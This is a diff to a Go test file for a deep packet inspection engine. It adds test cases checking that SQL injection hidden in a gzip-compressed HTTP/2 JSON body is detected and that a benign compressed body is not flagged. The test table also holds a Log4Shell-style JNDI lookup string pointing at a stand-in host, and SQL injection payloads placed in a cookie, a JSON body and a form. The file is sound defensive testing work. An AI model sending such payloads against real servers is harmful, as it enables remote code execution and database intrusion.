@@ -2,6 +2,7 @@ package dpi
 
 import (
 	"bytes"
+	"compress/gzip"
 	"os"
 	"slices"
 	"strings"
@@ -125,6 +126,8 @@ func TestHTTP2SameRules(t *testing.T) {
 		{"header", h2Request{method: "GET", path: "/", headers: [][2]string{{"x-api-version", "${jndi:ldap://evil/a}"}}}, true},
 		{"cookie", h2Request{method: "GET", path: "/", headers: [][2]string{{"cookie", "session=" + sqli}}}, true},
 		{"json body", h2Request{method: "POST", path: "/api/items", headers: [][2]string{{"content-type", "application/json"}}, body: `{"name":"widget","note":"` + sqli + `"}`}, true},
+		{"gzip json body", h2Request{method: "POST", path: "/api/items", headers: [][2]string{{"content-type", "application/json"}, {"content-encoding", "gzip"}}, body: gzipString(t, `{"name":"widget","note":"`+sqli+`"}`)}, true},
+		{"benign gzip body", h2Request{method: "POST", path: "/api/items", headers: [][2]string{{"content-type", "application/json"}, {"content-encoding", "gzip"}}, body: gzipString(t, `{"name":"widget","qty":3}`)}, false},
 		{"form body", h2Request{method: "POST", path: "/login", headers: [][2]string{{"content-type", "application/x-www-form-urlencoded"}}, body: "user=" + strings.ReplaceAll(sqli, " ", "+")}, true},
 	}
 	h := newHarness(t, ruletest.DefaultPack(t), Config{})
@@ -148,6 +151,19 @@ func TestHTTP2SameRules(t *testing.T) {
 			}
 		})
 	}
+}
+
+func gzipString(tb testing.TB, s string) string {
+	tb.Helper()
+	var b bytes.Buffer
+	z := gzip.NewWriter(&b)
+	if _, err := z.Write([]byte(s)); err != nil {
+		tb.Fatal(err)
+	}
+	if err := z.Close(); err != nil {
+		tb.Fatal(err)
+	}
+	return b.String()
 }
 
 // checkH2Events: an HTTP/2 flow's events say http2 and carry the stream.
